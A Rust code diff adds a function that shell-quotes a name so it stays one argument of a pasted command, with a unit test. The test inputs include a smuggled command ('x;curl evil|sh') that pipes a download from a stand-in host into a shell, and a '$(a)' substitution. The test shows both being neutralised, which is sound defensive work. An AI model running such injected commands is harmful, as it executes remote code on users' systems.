@@ -57,7 +57,16 @@ pub(crate) fn line(text: &str) -> String {
     escape(text.as_bytes(), |_| false)
 }
 
-/// The same, cut if long.
+/// A name as one argument of a command that is to be pasted into a shell.
+pub(crate) fn argument(name: &str) -> String {
+    let is_plain = |it: char| it.is_alphanumeric() || "/._-+@:,%".contains(it);
+    match !name.is_empty() && name.chars().all(is_plain) {
+        true => name.to_owned(),
+        false => format!("'{}'", line(name).replace('\'', r"'\''")),
+    }
+}
+
+/// A line, cut if long.
 pub(crate) fn preview(bytes: &[u8]) -> String {
     const MOST: usize = 80;
     // A character has at most four bytes: what lies beyond these is not shown anyway.
@@ -171,6 +180,15 @@ mod tests {
     fn no_data_moves_the_cursor_of_a_terminal() {
         assert_eq!(printable(b"a\n\tb\x1b[2J\xff\r"), "a\n\tb\\u{1b}[2J\\xff\\r");
         assert_eq!(printable("grüß 日本".as_bytes()), "grüß 日本");
+    }
+
+    #[test]
+    fn whatever_a_name_is_it_is_one_argument_of_a_shell() {
+        assert_eq!(["mail", "a:b@1.0", "größe"].map(argument), ["mail", "a:b@1.0", "größe"]);
+        assert_eq!(
+            ["x;curl evil|sh", "$(a)", "it's", "a b", ""].map(argument),
+            ["'x;curl evil|sh'", "'$(a)'", r"'it'\''s'", "'a b'", "''"]
+        );
     }
 
     #[test]
